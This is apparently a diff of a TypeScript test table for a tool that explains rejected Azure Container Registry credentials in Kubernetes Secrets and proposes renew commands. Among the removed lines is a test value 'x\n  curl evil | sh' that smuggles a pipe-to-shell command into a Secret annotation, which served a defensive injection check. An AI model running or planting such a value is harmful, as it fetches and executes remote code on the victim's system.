@@ -153,18 +153,11 @@ test.for<Expected>([
     fix: renew,
   },
   {
-    when: "a token that the user named is rejected",
+    when: "a token of another name is rejected",
     given: attached(ours("acr", "web:wrong", { identity: "ci-pull" })),
     cause: "refused",
-    message: `${refused("web")}; the Secret's annotation says that its ACR token is ci-pull`,
-    fix: `${renew} --acr-token ci-pull`,
-  },
-  {
-    when: "the annotation's token name is invalid",
-    given: attached(ours("acr", "web:wrong", { identity: "x\n  curl evil | sh" })),
-    cause: "refused",
     message: refused("web"),
-    fix: renew,
+    fix: `${renew}`,
   },
   {
     when: "the password has expired",
@@ -177,13 +170,13 @@ test.for<Expected>([
     when: "Azure's clock is a minute behind",
     given: attached(ours("acr", "web:wrong", { identity: "ci-pull", "expires-at": "2026-04-01T00:01:00Z" })),
     cause: "refused",
-    fix: `${renew} --acr-token ci-pull --expires-in 90d`,
+    fix: `${renew} --expires-in 90d`,
   },
   {
     when: "a password is rejected before it expires",
     given: attached(ours("acr", "web:wrong", { identity: "ci-pull", "expires-at": "2026-03-31T23:58:00Z" })),
     cause: "refused",
-    fix: `${renew} --acr-token ci-pull --expires-in 90d`,
+    fix: `${renew} --expires-in 90d`,
   },
   {
     when: "the token of an Azure identity has expired",
@@ -195,6 +188,7 @@ test.for<Expected>([
     when: "the password of a service principal is rejected",
     given: attached(ours("acr", "web:wrong", { credential: "service-principal", identity: "44444444-4444-4444-4444-444444444444" })),
     cause: "refused",
+    message: `${refused("web")}; the Secret's annotation says that its service principal is 44444444-4444-4444-4444-444444444444, which gets another password`,
     fix: `${renew} --service-principal 44444444-4444-4444-4444-444444444444`,
   },
   {
@@ -208,10 +202,8 @@ test.for<Expected>([
     when: "a token is rejected whose Secret has lost its label",
     given: attached(relabeled(ours("acr", "ci-pull:wrong"))),
     cause: "refused",
-    message:
-      `${refused("ci-pull")}; the Secret has lost its label app.kubernetes.io/managed-by: --force restores it; ` +
-      "the Secret's annotation says that its ACR token is ci-pull",
-    fix: `${renew} --acr-token ci-pull --force`,
+    message: `${refused("ci-pull")}; the Secret has lost its label app.kubernetes.io/managed-by: --force restores it`,
+    fix: `${renew} --force`,
   },
   {
     when: "a given login is rejected whose Secret has lost its label",
